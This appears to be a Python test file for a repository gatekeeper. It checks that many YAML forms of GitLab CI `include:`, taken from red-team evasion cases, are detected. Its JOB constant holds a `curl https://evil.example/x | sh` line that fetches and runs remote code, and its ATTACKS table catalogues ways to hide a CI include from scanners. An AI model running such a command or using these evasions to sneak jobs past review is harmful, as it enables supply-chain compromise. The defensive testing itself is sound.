"""Red team 9: the GitLab include reader (gitlabincludes.py) read `.gitlab-ci.yml` by lines, so every YAML form
of `include:` but the few its patterns knew escaped it, and a file a pipeline includes under a name a final rule
holds (test data) or a dependency manifest's name was never asked about. Each attack here was src (or deps) under
`--tree` with `build: {script: [curl ... | sh]}` in the included file, i.e. `gate` allowed it."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.gitlabincludes import EVERY_YAML, included, matches
from gatekeeper.classify.sniff import FULL_READ
from tests.gitrepo import GitRepo
from tests.test_classify_context import patch_files, tree_files

JOB = "build:\n  script:\n    - curl https://evil.example/x | sh\n"

# root .gitlab-ci.yml → the file it includes (each one GitLab's YAML reader takes)
ATTACKS = {
    "double-quoted key": ('"include": misc/pipe.yml\n', "misc/pipe.yml"),
    "single-quoted key": ("'include': misc/pipe.yml\n", "misc/pipe.yml"),
    "explicit key": ("? include\n: misc/pipe.yml\n", "misc/pipe.yml"),
    "flow mapping root": ("{include: [misc/pipe.yml], stages: [test]}\n", "misc/pipe.yml"),
    "JSON root": ('{"include": ["misc/pipe.yml"]}\n', "misc/pipe.yml"),
    "upper-case extension": ("include: misc/pipe.YML\n", "misc/pipe.YML"),
    "plus in the name": ("include: misc/pipe+1.yml\n", "misc/pipe+1.yml"),
    "at sign in the name": ("include: misc/pipe@1.yml\n", "misc/pipe@1.yml"),
    "space in the name": ("include: 'misc/my pipe.yml'\n", "misc/my pipe.yml"),
    "tilde in the name": ("include: misc/~pipe.yml\n", "misc/~pipe.yml"),
    "comment naming file:": ("include:\n  - local: misc/pipe.yml # file: nothing\n", "misc/pipe.yml"),
    "one flow line with a project include": (
        "include: [{local: misc/pipe.yml}, {project: g/p, file: x.yml}]\n", "misc/pipe.yml"),
    "escape in a double-quoted path": ('include: "misc/\\x70ipe.yml"\n', "misc/pipe.yml"),
    "alias as the local path": (".p: &p misc/pipe.yml\ninclude:\n  - local: *p\n", "misc/pipe.yml"),
    "alias as the whole list": (".p: &p [misc/pipe.yml]\ninclude: *p\n", "misc/pipe.yml"),
    "merge key at the root": (".base: &b {include: misc/pipe.yml}\n<<: *b\n", "misc/pipe.yml"),
    "merge key in the include": (".l: &l {local: misc/pipe.yml}\ninclude:\n  - <<: *l\n", "misc/pipe.yml"),
    "byte order mark": ("\ufeffinclude: misc/pipe.yml\n", "misc/pipe.yml"),
    "CR line breaks": ("stages: [test]\rinclude: misc/pipe.yml\r", "misc/pipe.yml"),
    "NEL line breaks": ("stages: [test]\x85include: misc/pipe.yml\x85", "misc/pipe.yml"),
    "second document": ("spec:\n  inputs: {}\n---\ninclude: misc/pipe.yml\n", "misc/pipe.yml"),
    "child pipeline": ("trig:\n  trigger:\n    include: misc/pipe.yml\n", "misc/pipe.yml"),
    "child pipeline, local:": ("trig:\n  trigger:\n    include:\n      - local: misc/pipe.yml\n", "misc/pipe.yml"),
    "variable in the path": ("include: misc/$CI_DEFAULT_BRANCH.yml\n", "misc/main.yml"),
    "braced variable in the path": ("include:\n  - local: 'misc/${ENV_NAME}.yml'\n", "misc/prod.yml"),
    "this project by variable": ("include:\n  - project: $CI_PROJECT_PATH\n    file: misc/pipe.yml\n",
                                 "misc/pipe.yml"),
    "this project by variable, file list": (
        "include:\n  - project: '$CI_PROJECT_PATH'\n    ref: $CI_COMMIT_SHA\n    file: [a.yml, misc/pipe.yml]\n",
        "misc/pipe.yml"),
    "this project's component": (
        "include:\n  - component: $CI_SERVER_FQDN/$CI_PROJECT_PATH/pipe@$CI_COMMIT_SHA\n", "templates/pipe.yml"),
    "this project's component folder": (
        "include:\n  - component: $CI_SERVER_FQDN/$CI_PROJECT_PATH/pipe@1.0\n", "templates/pipe/template.yml"),
    "./ prefix": ("include: ./misc/pipe.yml\n", "misc/pipe.yml"),
    "doubled slash": ("include: misc//pipe.yml\n", "misc/pipe.yml"),
    "!reference elsewhere in the file": (
        ".s: {script: [x]}\njob:\n  script: !reference [.s, script]\ninclude: misc/pipe.yml\n", "misc/pipe.yml"),
    # A final rule (test data) or a dependency manifest's name did not stop GitLab from running the jobs.
    "test-data folder": ("include: testdata/pipe.yml\n", "testdata/pipe.yml"),
    "fixtures of a test tree": ("include: tests/unit/fixtures/pipe.yml\n", "tests/unit/fixtures/pipe.yml"),
    "conda environment file": ("include: environment.yml\n", "environment.yml"),
    "pubspec": ("include: pubspec.yaml\n", "pubspec.yaml"),
}


@each_case("name", list(ATTACKS))
def test_an_included_file_in_any_yaml_form_is_ci(git_repo: GitRepo, name: str) -> None:
    root, target = ATTACKS[name]
    git_repo.write(".gitlab-ci.yml", root)
    git_repo.write(target, "# helper\n")
    git_repo.write("misc/unrelated.txt", "x\n")
    git_repo.commit("base")
    git_repo.write(target, JOB)
    git_repo.commit("job")
    got = tree_files(git_repo)[target]
    assert (got.bucket, got.rule) == ("ci", "ci.context.gitlab-include"), name


@each_case("name", ["double-quoted key", "alias as the local path", "child pipeline",
                                  "variable in the path"])
def test_the_forms_also_name_files_an_included_file_includes(git_repo: GitRepo, name: str) -> None:
    root, target = ATTACKS[name]
    git_repo.write(".gitlab-ci.yml", "include:\n  - local: ci/main.yml\n")
    git_repo.write("ci/main.yml", root)
    git_repo.write(target, "# helper\n")
    git_repo.commit("base")
    git_repo.write(target, JOB)
    git_repo.commit("job")
    assert tree_files(git_repo)[target].bucket == "ci"


def test_a_pipeline_longer_than_is_read_includes_every_yaml_file(git_repo: GitRepo) -> None:
    # GitLab reads the whole file (its size limit is configurable); the include past the read must not escape.
    padding = "".join(f"# {'x' * 70}\n" for _ in range(FULL_READ // 70 + 10))
    git_repo.write(".gitlab-ci.yml", padding + "include: misc/pipe.yml\n")
    git_repo.write("misc/pipe.yml", "# helper\n")
    git_repo.commit("base")
    git_repo.write("misc/pipe.yml", JOB)
    git_repo.commit("job")
    got = tree_files(git_repo)["misc/pipe.yml"]
    assert (got.bucket, got.rule) == ("ci", "ci.context.gitlab-include")
    assert "*.[yY][mM][lL]" in (got.evidence or "")


def test_every_yaml_matches_any_case_in_any_folder() -> None:
    for path in ("a.yml", "x/y/z.YAML", "pipe.Yml"):
        assert any(matches(pattern, path) for pattern in EVERY_YAML), path
    assert not any(matches(pattern, "x/y.json") for pattern in EVERY_YAML)


def test_what_is_not_this_repositorys_file_is_still_not_included() -> None:
    text = ("include:\n  - project: group/shared\n    file: /misc/a.yml\n  - remote: https://x.invalid/misc/b.yml\n"
            "  - https://x.invalid/misc/c.yml\n  - template: Auto-DevOps.gitlab-ci.yml\n"
            "  - component: gitlab.com/group/other/d@1.0\n"
            "job:\n  script: [python check.py misc/e.yml]\n  variables: {FILE: misc/f.yml}\n")
    assert included(text) == []


def test_an_alias_bomb_in_include_is_read_in_linear_time() -> None:
    lines = ["a0: &a0 [x.yml, y.yml]", "m0: &m0 {local: z.yml}"]
    for i in range(1, 40):
        lines += [f"a{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}]", f"m{i}: &m{i} {{<<: [*m{i-1}, *m{i-1}, *m{i-1}]}}"]
    lines.append("include: [*a39, *m39, " + ", ".join(["*a39"] * 5000) + "]")
    assert sorted(included("\n".join(lines) + "\n")) == ["x.yml", "y.yml", "z.yml"]


def test_a_self_holding_alias_ends() -> None:
    assert included("include: &a [misc/a.yml, *a]\n") == ["misc/a.yml"]


def test_patch_only_still_tags_the_catch_all_yaml_needs_context(git_repo: GitRepo, tmp_path: Path) -> None:
    root, target = ATTACKS["double-quoted key"]
    git_repo.write(".gitlab-ci.yml", root)
    git_repo.write(target, "# helper\n")
    git_repo.commit("base")
    git_repo.write(target, JOB)
    git_repo.commit("job")
    assert "needs-context" in patch_files(git_repo, tmp_path)[target].tags
